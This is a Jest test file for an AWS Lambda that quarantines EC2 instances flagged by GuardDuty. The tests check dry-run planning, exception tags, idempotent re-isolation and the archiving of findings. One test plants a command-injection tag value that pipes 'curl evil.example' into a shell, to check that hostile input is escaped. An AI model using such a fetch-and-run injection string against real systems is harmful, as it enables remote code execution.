import {
  CreateTagsCommand,
  DescribeInstancesCommand,
  DescribeSecurityGroupsCommand,
  ModifyNetworkInterfaceAttributeCommand,
  RevokeSecurityGroupEgressCommand,
} from '@aws-sdk/client-ec2';
import { ArchiveFindingsCommand } from '@aws-sdk/client-guardduty';
import { ListParentsCommand } from '@aws-sdk/client-organizations';
import { BatchUpdateFindingsCommand } from '@aws-sdk/client-securityhub';
import { AssumeRoleCommand } from '@aws-sdk/client-sts';
import { handler } from '../../../lambdas/isolate-ec2';
import { createMocks, sentActions, undeclaredActions } from '../../support/aws';
import {
  ACCOUNT,
  ALL_V4,
  arrange,
  cleanGroup,
  ENIS,
  FINDING_ID,
  GROUP_IDS,
  guardDutyEvent,
  INSTANCE,
  instanceReply,
  mutatingCalls,
  sent,
  stepsOf,
  VPC_A,
  VPC_B,
} from './support';

const mocks = createMocks();

// Every test starts from a healthy account; a test that needs another arrangement calls it again.
beforeEach(() => {
  arrange(mocks);
});

const Q_A = GROUP_IDS[VPC_A].quarantine;
const P_A = GROUP_IDS[VPC_A].passthrough;
const Q_B = GROUP_IDS[VPC_B].quarantine;
const [ENI_1, ENI_2, ENI_3] = ENIS;
const FINDING_ARN = guardDutyEvent().detail.arn;
const ISOLATED = [
  { id: ENI_1.id, vpc: VPC_A, groups: [Q_A] },
  { id: ENI_2.id, vpc: VPC_A, groups: [Q_A] },
  { id: ENI_3.id, vpc: VPC_B, groups: [Q_B] },
];

const ec2Steps = (steps: string[]) => steps.filter((s) => / ec2:/.test(s));

describe('isolate-ec2: dry-run', () => {
  it('plans every step, group creation included, and changes nothing', async () => {
    // Arrange
    arrange(mocks, { env: { DRY_RUN: 'true' } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({
      status: 'dry-run',
      mode: 'dry-run',
      reason: `would isolate ${INSTANCE} (3 of its 3 network interface(s) in ${VPC_A}, ${VPC_B}); nothing changed`,
    });
    const qA = `security-ir-quarantine (new, ${VPC_A})`;
    const pA = `security-ir-passthrough (new, ${VPC_A})`;
    const qB = `security-ir-quarantine (new, ${VPC_B})`;
    const pB = `security-ir-passthrough (new, ${VPC_B})`;
    expect(stepsOf(outcomes[0])).toEqual([
      `planned ec2:CreateSecurityGroup security-ir-quarantine in ${VPC_A}`,
      `planned ec2:CreateSecurityGroup security-ir-passthrough in ${VPC_A}`,
      `planned ec2:CreateSecurityGroup security-ir-quarantine in ${VPC_B}`,
      `planned ec2:CreateSecurityGroup security-ir-passthrough in ${VPC_B}`,
      `planned ec2:RevokeSecurityGroupEgress ${qA}`,
      `planned ec2:RevokeSecurityGroupEgress ${qA}`,
      `planned ec2:AuthorizeSecurityGroupIngress ${pA}`,
      `planned ec2:AuthorizeSecurityGroupIngress ${pA}`,
      `planned ec2:AuthorizeSecurityGroupEgress ${pA}`,
      `planned ec2:RevokeSecurityGroupEgress ${qB}`,
      `planned ec2:RevokeSecurityGroupEgress ${qB}`,
      `planned ec2:AuthorizeSecurityGroupIngress ${pB}`,
      `planned ec2:AuthorizeSecurityGroupIngress ${pB}`,
      `planned ec2:AuthorizeSecurityGroupEgress ${pB}`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_1.id} (${ENI_1.groups.join(', ')} -> ${pA})`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_2.id} (${ENI_2.groups[0]} -> ${pA})`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_3.id} (${ENI_3.groups[0]} -> ${pB})`,
      `planned ec2:CreateSnapshots ${INSTANCE}`,
      `planned ec2:ModifyInstanceAttribute ${INSTANCE}`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_1.id} (${ENI_1.groups.join(', ')} -> ${qA})`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_2.id} (${ENI_2.groups[0]} -> ${qA})`,
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_3.id} (${ENI_3.groups[0]} -> ${qB})`,
      `planned ec2:CreateTags ${INSTANCE}`,
    ]);
    expect(mutatingCalls(mocks)).toEqual([]);
    expect(sent(mocks.guardduty, ArchiveFindingsCommand)).toEqual([]);
  });

  it('plans the same actions, in the same order, as a containment performs', async () => {
    // Arrange
    arrange(mocks, { env: { DRY_RUN: 'true' } });
    const planned = (await handler(guardDutyEvent())).outcomes[0]?.steps.map((s) => s.action);
    // Act
    const done = (await handler(guardDutyEvent())).outcomes[0]?.steps.map((s) => s.action);
    // Assert
    expect(done?.filter((a) => a.startsWith('ec2:'))).toEqual(planned);
  });

  it('names the groups found instead of planning to create them', async () => {
    // Arrange
    arrange(mocks, { env: { DRY_RUN: 'true' }, groups: 'clean' });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    const steps = stepsOf(outcomes[0]);
    expect(steps).toHaveLength(9);
    expect(steps[0]).toBe(
      `planned ec2:ModifyNetworkInterfaceAttribute ${ENI_1.id} (${ENI_1.groups.join(', ')} -> ${P_A})`,
    );
    expect(mutatingCalls(mocks)).toEqual([]);
  });

  it('dry-runs an account in an OU configured for dry-run', async () => {
    // Arrange
    arrange(mocks, {
      env: {
        RESPONSE_MODES: JSON.stringify({
          default: 'contain',
          accounts: {},
          organizationalUnits: { 'ou-ab12-cdef3456': 'dry-run' },
        }),
      },
    });
    mocks.organizations.on(ListParentsCommand).resolves({
      Parents: [{ Id: 'ou-ab12-cdef3456', Type: 'ORGANIZATIONAL_UNIT' }],
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]?.status).toBe('dry-run');
    expect(mutatingCalls(mocks)).toEqual([]);
    expect(sent(mocks.sts, AssumeRoleCommand)).toEqual([
      expect.objectContaining({ RoleArn: `arn:aws:iam::${ACCOUNT}:role/Security-IR-Role` }),
    ]);
    expect(undeclaredActions(mocks, 'isolate-ec2')).toEqual([]);
  });
});

describe('isolate-ec2: response mode off', () => {
  it('ignores the finding of an account whose mode is off, with no EC2 call', async () => {
    // Arrange
    arrange(mocks, {
      env: {
        RESPONSE_MODES: JSON.stringify({
          default: 'contain',
          accounts: { [ACCOUNT]: 'off' },
          organizationalUnits: {},
        }),
      },
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({ status: 'ignored', mode: 'off', steps: [] });
    expect(sentActions(mocks)).toEqual(['sns:Publish']);
  });
});

describe('isolate-ec2: exception tag on the instance', () => {
  it('skips the instance, reports the ticket and changes nothing', async () => {
    // Arrange
    arrange(mocks, { live: { tags: [{ Key: 'SecurityException', Value: 'CHG-1234' }] } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({
      status: 'skipped',
      reason: `${INSTANCE} carries the exception tag SecurityException="CHG-1234"; nothing changed`,
      exception: { key: 'SecurityException', ticket: 'CHG-1234', expired: false },
    });
    expect(mutatingCalls(mocks)).toEqual([]);
  });

  it('leaves the GuardDuty finding active and adds a Security Hub note without changing the workflow', async () => {
    // Arrange
    arrange(mocks, { live: { tags: [{ Key: 'SecurityException', Value: 'CHG-1234' }] } });
    // Act
    await handler(guardDutyEvent());
    // Assert
    expect(sent(mocks.guardduty, ArchiveFindingsCommand)).toEqual([]);
    expect(sent(mocks.securityhub, BatchUpdateFindingsCommand)).toEqual([
      {
        FindingIdentifiers: [
          { Id: FINDING_ARN, ProductArn: 'arn:aws:securityhub:us-east-1::product/aws/guardduty' },
        ],
        Note: { Text: expect.stringContaining('[security-ir] skipped:'), UpdatedBy: 'security-ir' },
      },
    ]);
  });

  it('finds the tag whatever the letter case of its key', async () => {
    // Arrange
    arrange(mocks, { live: { tags: [{ Key: 'securityexception', Value: 'CHG-77' }] } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]?.status).toBe('skipped');
    expect(mutatingCalls(mocks)).toEqual([]);
  });

  it('still honours an expired exception, and says it has expired', async () => {
    // Arrange
    arrange(mocks, {
      live: { tags: [{ Key: 'SecurityException', Value: 'CHG-9;expires=2020-01-31' }] },
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({
      status: 'skipped',
      reason: expect.stringContaining('expired on 2020-01-31: renew or remove it'),
    });
    expect(mutatingCalls(mocks)).toEqual([]);
  });

  it('quotes a hostile tag value bounded and on one line', async () => {
    // Arrange
    const value = `CHG-1\n$(curl evil.example | sh);${'x'.repeat(300)}`;
    arrange(mocks, { live: { tags: [{ Key: 'SecurityException', Value: value }] } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]?.status).toBe('skipped');
    expect(outcomes[0]?.reason).not.toContain('\n');
    expect(outcomes[0]?.reason.length).toBeLessThan(400);
  });

  it('acts on the live tags, not on the tags the finding carries', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean' });
    const event = guardDutyEvent();
    event.detail.resource.instanceDetails.tags.push({ key: 'SecurityException', value: 'old' });
    // Act
    const { outcomes } = await handler(event);
    // Assert
    expect(outcomes[0]?.status).toBe('contained');
  });
});

/** A completed isolation: every interface in quarantine and the completion tag written. */
const DONE_TAGS = [
  { Key: 'Name', Value: 'web-01' },
  { Key: 'security-ir:isolated', Value: '2026-11-27T10:00:00.000Z' },
];

describe('isolate-ec2: instance already isolated', () => {
  it('changes nothing when every interface is only in its quarantine group', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean', live: { enis: ISOLATED, tags: DONE_TAGS } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({
      status: 'contained',
      reason: expect.stringMatching(/^i-0a1b2c3d4e5f60789 is already isolated: .*nothing changed$/),
    });
    expect(ec2Steps(stepsOf(outcomes[0]))).toEqual([]);
    expect(mutatingCalls(mocks)).toEqual([]);
  });

  it('says so in dry-run without recording anything on the finding', async () => {
    // Arrange
    arrange(mocks, {
      env: { DRY_RUN: 'true' },
      groups: 'clean',
      live: { enis: ISOLATED, tags: DONE_TAGS },
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({ status: 'dry-run', steps: [] });
    expect(outcomes[0]?.reason).toContain('already isolated');
    expect(sent(mocks.guardduty, ArchiveFindingsCommand)).toEqual([]);
    expect(sent(mocks.securityhub, BatchUpdateFindingsCommand)).toEqual([]);
  });

  it('answers a repeated finding with no second change', async () => {
    // Arrange
    mocks.ec2
      .on(DescribeInstancesCommand)
      .resolvesOnce(instanceReply())
      .resolves(instanceReply({ enis: ISOLATED, tags: DONE_TAGS }));
    await handler(guardDutyEvent());
    const first = mutatingCalls(mocks).length;
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]?.reason).toContain('already isolated');
    expect(mutatingCalls(mocks)).toHaveLength(first);
  });

  it('completes the evidence and tags of an earlier response that stopped after the moves', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean', live: { enis: ISOLATED } });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]).toMatchObject({ status: 'contained' });
    expect(outcomes[0]?.reason).toContain('evidence and tags of an earlier, interrupted response');
    expect(mutatingCalls(mocks)).toEqual([
      'ec2:CreateSnapshots',
      'ec2:ModifyInstanceAttribute',
      'ec2:CreateTags',
    ]);
    expect(sent(mocks.ec2, CreateTagsCommand)[0]?.Tags?.map((t) => t.Key)).toEqual([
      'security-ir:isolated',
      'security-ir:finding-id',
    ]);
  });

  it('removes a rule someone added to the quarantine group of an isolated instance', async () => {
    // Arrange
    arrange(mocks, { live: { enis: ISOLATED, tags: DONE_TAGS } });
    mocks.ec2.on(DescribeSecurityGroupsCommand).resolves({
      SecurityGroups: [
        { ...cleanGroup(VPC_A, 'quarantine'), IpPermissionsEgress: [ALL_V4] },
        cleanGroup(VPC_B, 'quarantine'),
      ],
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(outcomes[0]?.reason).toContain('already isolated; its quarantine group had rules');
    expect(mutatingCalls(mocks)).toEqual(['ec2:RevokeSecurityGroupEgress']);
    expect(sent(mocks.ec2, RevokeSecurityGroupEgressCommand)).toEqual([
      { GroupId: Q_A, IpPermissions: [ALL_V4] },
    ]);
  });

  it('moves only the interfaces not yet in quarantine', async () => {
    // Arrange
    arrange(mocks, { groups: 'clean', live: { enis: [ENI_1, ENI_2, ISOLATED[2]] } });
    // Act
    await handler(guardDutyEvent());
    // Assert
    expect(sent(mocks.ec2, ModifyNetworkInterfaceAttributeCommand)).toEqual([
      { NetworkInterfaceId: ENI_1.id, Groups: [P_A] },
      { NetworkInterfaceId: ENI_2.id, Groups: [P_A] },
      { NetworkInterfaceId: ENI_1.id, Groups: [Q_A] },
      { NetworkInterfaceId: ENI_2.id, Groups: [Q_A] },
    ]);
  });

  it('keeps the original-groups record of an earlier run that stopped half-way', async () => {
    // Arrange: ENI 1 was left in the passthrough group
    arrange(mocks, {
      groups: 'clean',
      live: { enis: [{ id: ENI_1.id, vpc: VPC_A, groups: [P_A] }, ENI_2, ENI_3] },
    });
    // Act
    await handler(guardDutyEvent());
    // Assert
    const keys = sent(mocks.ec2, CreateTagsCommand)[0]?.Tags?.map((t) => t.Key);
    expect(keys).toEqual(['security-ir:isolated', 'security-ir:finding-id']);
  });
});

describe('isolate-ec2: recording after containment', () => {
  it('archives the GuardDuty finding and resolves it in Security Hub after the last change', async () => {
    // Arrange
    const trips = arrange(mocks, { groups: 'clean' });
    const ec2DoneAtArchive: boolean[] = [];
    mocks.guardduty.on(ArchiveFindingsCommand).callsFake(() => {
      ec2DoneAtArchive.push(trips.calls.every((c) => c.done));
      return {};
    });
    // Act
    const { outcomes } = await handler(guardDutyEvent());
    // Assert
    expect(sent(mocks.guardduty, ArchiveFindingsCommand)).toEqual([
      { DetectorId: 'admindetector0001', FindingIds: [FINDING_ID] },
    ]);
    expect(sent(mocks.securityhub, BatchUpdateFindingsCommand)).toEqual([
      expect.objectContaining({ Workflow: { Status: 'RESOLVED' } }),
    ]);
    expect(stepsOf(outcomes[0]).slice(-4)).toEqual([
      `done ec2:CreateTags ${INSTANCE}`,
      `done guardduty:ArchiveFindings ${FINDING_ID}`,
      `done securityhub:BatchUpdateFindings ${FINDING_ARN}`,
      `done securityhub:BatchUpdateFindingsV2 ${FINDING_ARN}`,
    ]);
    expect(ec2DoneAtArchive).toEqual([true]);
  });
});
